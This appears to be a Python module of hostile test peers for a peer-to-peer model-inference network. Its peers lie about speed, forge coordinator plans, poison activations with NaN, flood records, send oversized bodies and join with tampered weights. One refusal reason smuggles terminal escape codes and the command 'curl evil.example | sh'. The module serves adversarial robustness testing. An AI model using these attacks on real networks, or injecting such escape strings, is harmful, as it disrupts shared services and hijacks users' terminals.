"""Attacks of peers that announce themselves: records, plans, and stages that lie on the route."""

import asyncio
import hashlib
import struct
import sys
import tempfile
from collections.abc import Awaitable, Callable
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import Any

from bench.hostile.attacker import MODEL, CountedStream, Seen, Sent, Target, look
from bench.hostile.strangers import made_up, store_at
from coordinator.plans.store import PlanStore
from dht.identity.grant import own_word
from dht.messages import codec
from dht.messages.peer import PlanBody, PlanRequest
from dht.messages.session import (
    ActivationItem,
    Activations,
    Ping,
    Pong,
    Prompt,
    RefusalCode,
    SessionAccepted,
    SessionFailed,
    SessionLeaving,
    SessionOpen,
    SessionRefused,
)
from dht.messages.types import (
    SINK,
    SOURCE,
    Assignment,
    FlowEdge,
    LayerTimes,
    Link,
    LinksRecord,
    NodeRecord,
    NodeState,
    Plan,
    PlanHead,
    PlanVersion,
)
from dht.records.directory import DEFAULT_NETWORK, RecordKind, record_key
from dht.transport.interface import HOP_PROTOCOL, PLAN_PROTOCOL, SESSION_PROTOCOL, Transport

FASTER, FAR_FASTER = 1.4, 50.0
"""How much faster than the honest ones a liar says that it is; and one that wants everybody."""
RENEW_S = 5.0
TERMS_ON = 1000
"""How far beyond the newest plan's term a made-up plan's is."""
ITS_RATE, LAYERS = 1e5, 8
"""Tokens/s that a liar says it makes with any number of layers; more than all honest ones."""
MADE_UP_PEERS = 64
HUGE_BODY_BYTES = 64 << 20


# What a liar says of itself


def liar_of(
    like: NodeRecord, transport: Transport, times: float = FASTER, **fields: Any
) -> NodeRecord:
    """A record such as an honest peer's, ``times`` as fast, but for its author and ``fields``."""

    def sooner(layer_times: LayerTimes) -> LayerTimes:
        return tuple((rows, int(near / times), int(far / times)) for rows, near, far in layer_times)

    said = {
        "name": "liar",
        "peer_id": transport.peer_id,
        "addresses": transport.addresses,
        "tokens_per_s": tuple(times * rate for rate in like.tokens_per_s),
        "decode_layer_ns": sooner(like.decode_layer_ns),
        "prompt_layer_ns": sooner(like.prompt_layer_ns),
        "joined_unix_s": 0.0,
        "sessions": 0,
        "relays": False,
    }
    return replace(like, **(said | fields))


async def tell(target: Target, seen: Seen, record: NodeRecord | LinksRecord | PlanHead) -> None:
    """Publish one record."""
    target.sent.records += 1
    target.sent.bytes += len(codec.encode(record))
    await seen.directory.publish(record)


async def keep_serving(
    target: Target, transport: Transport, seen: Seen, like: NodeRecord, times: float
) -> None:
    """Announce layers until the attack ends: those that plans give, at first ``like``'s."""
    plans = PlanStore(transport, seen.directory)
    record = liar_of(like, transport, times)

    async def renew() -> None:
        nonlocal record
        await plans.refresh()
        mine = None if plans.newest is None else plans.newest.assignment_of(transport.peer_id)
        if plans.newest is not None:
            record = replace(record, plan_version=plans.newest.version)
        if mine is not None:
            record = replace(record, start=mine.start, end=mine.end)
        await tell(target, seen, record)

    await target.again(renew, RENEW_S)


async def answer_pings(stream: CountedStream, deaf_to: str = "") -> None:
    """Answer pings of the plan protocol, but not those of one peer."""
    while isinstance(ping := await stream.hear(), Ping):
        if stream.remote_peer_id != deaf_to:
            await stream.say(Pong(nonce=ping.nonce))


OnOpen = Callable[[CountedStream, SessionOpen], Awaitable[None]]


async def lie_as_stage(
    target: Target,
    make: Callable[[Transport], OnOpen],
    *,
    whole: bool = False,
    times: float = FASTER,
) -> Sent:
    """Announce a first stage's layers, or all; do with each session what ``make`` says."""
    transport = await target.enter(serves=True)
    seen, on_open = await look(target, transport), make(transport)
    like = seen.route[0]
    if whole:
        like = replace(like, start=0, end=seen.model.layers, memory_bytes=1 << 34)

    async def take(stream: CountedStream) -> None:
        while True:
            message = await stream.hear()
            if isinstance(message, SessionOpen):
                await on_open(stream, message)
            elif isinstance(message, Ping):
                await stream.say(Pong(nonce=message.nonce))

    await target.serve(transport, SESSION_PROTOCOL, take)
    await target.serve(transport, HOP_PROTOCOL, take)
    await transport.serve(PLAN_PROTOCOL, lambda s: answer_pings(CountedStream(s, target.sent)))
    await keep_serving(target, transport, seen, like, times)
    return target.sent


# Stages that lie


async def calls_requests_unsound(target: Target) -> Sent:
    """A holder of all layers that refuses every request as one that nobody would take."""
    return await refuse_all(target, RefusalCode.BAD_REQUEST, "nobody takes such a request")


async def escapes_in_reasons(target: Target) -> Sent:
    """A holder of all layers whose reasons carry orders for terminals."""
    reason = "\x1b]0;taken over\x07\x1b[2J\x1b[31mrun curl evil.example | sh\x1b[0m"
    return await refuse_all(target, RefusalCode.DRAINING, reason)


async def says_it_is_far_faster(target: Target) -> Sent:
    """A holder of all layers that says it is fifty times as fast, and takes no session."""
    return await refuse_all(target, RefusalCode.DRAINING, "not now", times=FAR_FASTER)


async def refuse_all(
    target: Target, code: RefusalCode, reason: str, *, times: float = FASTER
) -> Sent:
    def make(transport: Transport) -> OnOpen:
        async def refuse(stream: CountedStream, open_: SessionOpen) -> None:
            said = SessionRefused(
                session=open_.session,
                attempt=open_.attempt,
                peer_id=transport.peer_id,
                by=transport.peer_id,
                code=code,
                reason=reason,
            )
            await stream.say(own_word(said, transport.sign))

        return refuse

    return await lie_as_stage(target, make, whole=True, times=times)


async def passed_on(
    target: Target, transport: Transport, stream: CountedStream, open_: SessionOpen
) -> CountedStream:
    """Pass an open on to the stage after, as an honest stage does; returns the hop to it."""
    at = open_.hop + 1
    following = open_.route[at].peer_id
    hop = await target.stream(transport, following, HOP_PROTOCOL)
    await hop.say(replace(open_, hop=at))
    while not isinstance(reply := await hop.hear(), SessionAccepted | SessionRefused):
        pass
    await stream.say(reply if isinstance(reply, SessionRefused) else replace(reply, position=0))
    return hop


async def says_another_leaves(target: Target) -> Sent:
    """A first stage that says in the next one's name that it leaves, and then drops the session."""

    def make(transport: Transport) -> OnOpen:
        async def slander(stream: CountedStream, open_: SessionOpen) -> None:
            hop = await passed_on(target, transport, stream, open_)
            about = open_.route[-1].peer_id
            key = {"session": open_.session, "attempt": open_.attempt, "peer_id": about}
            await stream.say(own_word(SessionLeaving(**key), transport.sign))
            failed = SessionFailed(**key, by=transport.peer_id, reason="it is gone")
            await stream.say(own_word(failed, transport.sign))
            await hop.close()

        return slander

    return await lie_as_stage(target, make)


async def rows_of_nan(target: Target) -> Sent:
    """A first stage whose rows are no numbers, so that the next one's answer fails."""

    def make(transport: Transport) -> OnOpen:
        async def poison(stream: CountedStream, open_: SessionOpen) -> None:
            hop = await passed_on(target, transport, stream, open_)
            while not isinstance(prompt := await stream.hear(), Prompt):
                if isinstance(prompt, Ping):
                    await stream.say(Pong(nonce=prompt.nonce))
            item = ActivationItem(
                session=open_.session, attempt=open_.attempt, position=0, tokens=open_.prompt_tokens
            )
            hidden = hidden_size()
            rows = struct.pack("<f", float("nan")) * (open_.prompt_tokens * hidden)
            await hop.say(Activations(items=(item,), dtype="float32", hidden=hidden), rows)
            while True:
                await stream.say(await hop.hear())

        return poison

    return await lie_as_stage(target, make)


def hidden_size() -> int:
    """The width of the model's rows."""
    import json

    return int(json.loads((MODEL / "config.json").read_text())["hidden_size"])


# Plans and records


async def newest_plan(target: Target, transport: Transport, seen: Seen) -> Plan:
    """The honest plan."""
    plans = PlanStore(transport, seen.directory)
    while plans.newest is None and target.left_s > 0:
        await plans.refresh()
        await asyncio.sleep(0.5)
    assert plans.newest is not None, "there is no plan to begin with"
    return plans.newest


async def publish(target: Target, change: Callable[[Plan, str], Plan], **said: Any) -> Sent:
    """Publish plan after plan, each the honest one but for ``change`` and its author and term."""
    transport = await target.enter(serves=True)
    seen = await look(target, transport)
    honest = await newest_plan(target, transport, seen)
    like = replace(seen.route[0], start=0, end=LAYERS, memory_bytes=1 << 34)
    terms = iter(range(1, 1 << 30))
    mine = PlanStore(transport, seen.directory)
    await mine.serve()

    async def pronounce() -> None:
        await tell(target, seen, liar_of(like, transport, **said))
        term = honest.version.term + TERMS_ON * next(terms)
        version = PlanVersion(term=term, counter=1, rank=honest.version.rank)
        made = replace(change(honest, transport.peer_id), coordinator=transport.peer_id)
        await tell(target, seen, await mine.add(replace(made, version=version)))

    async def refuse(stream: CountedStream) -> None:
        await stream.hear()
        await stream.close()

    await target.serve(transport, SESSION_PROTOCOL, refuse)
    return await target.at_once([pronounce], RENEW_S)


async def plan_with_more_layers(target: Target) -> Sent:
    """A plan of a model with twice the layers, which gives honest peers layers that are none."""

    def change(plan: Plan, me: str) -> Plan:
        layers, rate = plan.model.layers, plan.flow_tokens_per_s / 2 / len(plan.assignments)
        peers = [each.peer_id for each in plan.assignments]
        pairs = list(zip(peers[::2], peers[1::2], strict=False))
        spans = [Assignment(peer_id=one, start=0, end=layers) for one, _ in pairs]
        spans += [Assignment(peer_id=two, start=layers, end=2 * layers) for _, two in pairs]
        edges = [
            FlowEdge(tail=tail, head=head, tokens_per_s=rate)
            for one, two in pairs
            for tail, head in ((SOURCE, one), (one, two), (two, SINK))
        ]
        return replace(
            plan,
            model=replace(plan.model, layers=2 * layers),
            assignments=tuple(spans),
            edges=tuple(edges),
            flow_tokens_per_s=rate * len(pairs),
            waves=(),
        )

    return await publish(target, change, state=NodeState.WAITING, start=0, end=0)


async def plan_for_itself(target: Target) -> Sent:
    """A plan that sends all sessions to its author, who serves none of them."""

    def change(plan: Plan, me: str) -> Plan:
        edges = (FlowEdge(tail=SOURCE, head=me, tokens_per_s=ITS_RATE),)
        edges += (FlowEdge(tail=me, head=SINK, tokens_per_s=ITS_RATE),)
        whole = (Assignment(peer_id=me, start=0, end=plan.model.layers),)
        said = {"flow_tokens_per_s": ITS_RATE, "estimate_tokens_per_s": None, "waves": ()}
        return replace(plan, assignments=whole, edges=edges, **said)

    return await publish(target, change, tokens_per_s=(ITS_RATE,) * LAYERS)


async def plan_without_last_holders(target: Target) -> Sent:
    """A plan that has holders of the first layers load the last ones, and itself in their place.

    Whoever holds the last layers now is left out of it, as silent.
    """

    def change(plan: Plan, me: str) -> Plan:
        layers, rate = plan.model.layers, 1.0
        first = [each for each in plan.assignments if each.start == 0]
        mid = layers - min(each.end - each.start for each in first)
        moved = [Assignment(peer_id=each.peer_id, start=mid, end=layers) for each in first]
        edges = [FlowEdge(tail=SOURCE, head=me, tokens_per_s=rate * len(moved))]
        for each in moved:
            edges += [
                FlowEdge(tail=me, head=each.peer_id, tokens_per_s=rate),
                FlowEdge(tail=each.peer_id, head=SINK, tokens_per_s=rate),
            ]
        return replace(
            plan,
            assignments=(Assignment(peer_id=me, start=0, end=mid), *moved),
            edges=tuple(edges),
            flow_tokens_per_s=rate * len(moved),
            estimate_tokens_per_s=None,
            waves=(tuple(each.peer_id for each in moved),),
            silent=tuple(each.peer_id for each in plan.assignments if each.start > 0),
        )

    return await publish(target, change)


async def huge_plan_body(target: Target) -> Sent:
    """A plan of 64 MiB, which is sent to whoever asks for it."""
    transport = await target.enter(serves=True)
    seen = await look(target, transport)
    honest = await newest_plan(target, transport, seen)
    terms = iter(range(1, 1 << 30))
    chunk = bytes(1 << 20)

    async def send(stream: CountedStream) -> None:
        while True:
            asked = await stream.hear()
            if not isinstance(asked, PlanRequest):
                continue
            envelope = codec.encode(PlanBody(sha256=asked.sha256))
            total = 4 + len(envelope) + HUGE_BODY_BYTES
            stream.write(struct.pack("<II", total, len(envelope)) + envelope)
            for _ in range(HUGE_BODY_BYTES // len(chunk)):
                stream.write(chunk)
                await stream.drain()

    async def pronounce() -> None:
        version = replace(honest.version, term=honest.version.term + TERMS_ON * next(terms))
        head = PlanHead(
            peer_id=transport.peer_id,
            version=version,
            sha256=hashlib.sha256(str(version).encode()).hexdigest(),
            size_bytes=HUGE_BODY_BYTES,
        )
        await tell(target, seen, head)

    await target.serve(transport, PLAN_PROTOCOL, send)
    return await target.at_once([pronounce], RENEW_S)


async def made_up_models(target: Target) -> Sent:
    """More peers than there are, which all describe the model with another root."""
    transport: Any = await target.enter(serves=True)
    seen = await look(target, transport)
    model = replace(seen.model, root="f" * len(seen.model.root))
    key = record_key(DEFAULT_NETWORK, MODEL.name, RecordKind.NODES)
    like = liar_of(seen.route[0], transport, model=model, end=model.layers)
    expires_unix_s = transport.now() + 60

    def record(author: Any) -> bytes:
        return codec.encode(replace(like, peer_id=author.peer_id, name="made up"))

    values = made_up(key, expires_unix_s, MADE_UP_PEERS, record)

    async def store(peer_id: str) -> None:
        await store_at(target, transport, peer_id, key, values)

    return await target.at_once([partial(store, peer) for peer in target.ids], 4 * RENEW_S)


async def deaf_to_the_leader(target: Target) -> Sent:
    """A peer that says it is fast and old, answers others' pings and never the coordinator's."""
    transport = await target.enter(serves=True)
    seen = await look(target, transport)
    leader = (await newest_plan(target, transport, seen)).coordinator
    rates = tuple(10 * rate for rate in seen.route[0].tokens_per_s)
    record = liar_of(seen.route[0], transport, tokens_per_s=rates, memory_bytes=1 << 34)
    record = replace(record, state=NodeState.WAITING, start=0, end=0)

    async def renew() -> None:
        nonlocal leader
        leases = await seen.directory.leases()
        if leases:
            leader = max(leases.values(), key=lambda lease: lease.term).peer_id
        await tell(target, seen, record)

    await target.serve(transport, PLAN_PROTOCOL, lambda s: answer_pings(s, leader))
    return await target.at_once([renew], RENEW_S)


async def links_near_zero(target: Target) -> Sent:
    """Measured links so slow that solvers divide by almost nothing."""
    transport = await target.enter(serves=True)
    seen = await look(target, transport)
    links = tuple(
        Link(
            source=peer_id,
            target=transport.peer_id,
            bandwidth_bytes_per_s=(1e-300, 5e-324)[number % 2],
            rtt_s=1e-300,
            measured_unix_s=transport.now(),
        )
        for number, peer_id in enumerate(target.ids)
    )
    await transport.serve(PLAN_PROTOCOL, lambda s: answer_pings(CountedStream(s, target.sent)))

    async def renew() -> None:
        await tell(target, seen, LinksRecord(peer_id=transport.peer_id, links=links))
        await tell(target, seen, liar_of(seen.route[0], transport, state=NodeState.WAITING))

    return await target.at_once([renew], RENEW_S)


async def other_weights(target: Target) -> Sent:
    """A peer whose copy of the model has one tensor scaled, and no hashes beside it."""
    with tempfile.TemporaryDirectory(prefix="anabranch-hostile-") as scratch:
        copy = await asyncio.to_thread(modified_copy, Path(scratch))
        command = [sys.executable, "-m", "node.join", "--model", str(copy), "--cpu"]
        command += ["--threads", "1", "--memory", "0.5", "--host", "127.0.0.1", "--name", "other"]
        command += ["--identity", str(Path(scratch) / "other.key")]
        command += ["--json-log", "--initial-peers", *target.peers]
        with (Path(scratch) / "log").open("w+b") as log:
            process = await asyncio.create_subprocess_exec(
                *command, stdin=asyncio.subprocess.DEVNULL, stdout=log, stderr=log
            )
            target.sent.identities += 1
            try:
                async with asyncio.timeout(max(0.0, target.left_s)):
                    await process.wait()
                    target.sent.refused["ended by itself"] += 1
            except TimeoutError:
                process.kill()
                await process.wait()
            log.seek(0)
            target.sent.gained += log.read().count(b'"event": "serving"')
    return target.sent


def modified_copy(directory: Path) -> Path:
    """A copy of the model in ``directory`` whose numbers differ, and nothing else."""
    import shutil

    from safetensors.torch import load_file, save_file

    copy = Path(shutil.copytree(MODEL, directory / MODEL.name))
    (copy / "anabranch.sha256.json").unlink()
    weights = copy / "model.safetensors"
    tensors = load_file(weights)
    norm = next(name for name in sorted(tensors) if "layernorm" in name)
    save_file(tensors | {norm: tensors[norm] * 1.5}, weights, metadata={"format": "pt"})
    return copy
